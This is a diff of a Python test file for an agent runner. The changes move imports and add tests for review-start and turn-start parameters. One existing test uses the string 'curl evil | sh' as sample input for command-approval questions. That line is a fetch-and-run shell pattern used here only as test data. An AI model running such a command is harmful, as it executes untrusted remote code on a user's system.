@@ -29,17 +29,15 @@ from core.events import (
     TurnEnded,
     TurnOutcome,
 )
-from core.ports import TurnRequest
+from core.ports import ReviewTarget, TurnRequest
+from core.runners.asking import sandbox_policy, start_call, thread_params, turn_params
 from core.runners.protocol import (
     error_message,
     item_of,
-    sandbox_policy,
     shell_line,
-    thread_params,
     tokens_since,
     total_tokens,
     translate,
-    turn_params,
 )
 from core.runners.questions import COMMAND, FILE_CHANGE, polite_refusal, question_of
 from core.words import ApprovalKind, Decision, Sandbox
@@ -349,3 +347,26 @@ def test_another_command_of_the_same_item_is_another_question() -> None:
 
     assert asked("ls").key == asked("ls").key
     assert asked("ls").key != asked("curl evil | sh").key
+
+
+@pytest.mark.parametrize(
+    ("target", "wire"),
+    [
+        (ReviewTarget("uncommitted"), {"type": "uncommittedChanges"}),
+        (ReviewTarget("base", "main"), {"type": "baseBranch", "branch": "main"}),
+        (ReviewTarget("commit", "1a2b"), {"type": "commit", "sha": "1a2b", "title": None}),
+        (ReviewTarget("custom", "Mind it."), {"type": "custom", "instructions": "Mind it."}),
+    ],
+)
+def test_a_review_is_begun_in_its_own_words(target: ReviewTarget, wire: dict[str, Any]) -> None:
+    request = replace(REQUEST, review=target)
+    assert start_call(request, "t", []) == ("review/start", {"threadId": "t", "target": wire})
+
+
+def test_everything_else_is_a_turn_that_is_told_its_brief() -> None:
+    assert start_call(REQUEST, "t", []) == ("turn/start", turn_params(REQUEST, "t", []))
+    assert "outputSchema" not in turn_params(REQUEST, "t", [])
+    request = replace(REQUEST, brief="Look at the log.", output_schema={"type": "object"})
+    params = turn_params(request, "t", [])
+    assert params["input"] == [{"type": "text", "text": "Look at the log."}]
+    assert params["outputSchema"] == {"type": "object"}
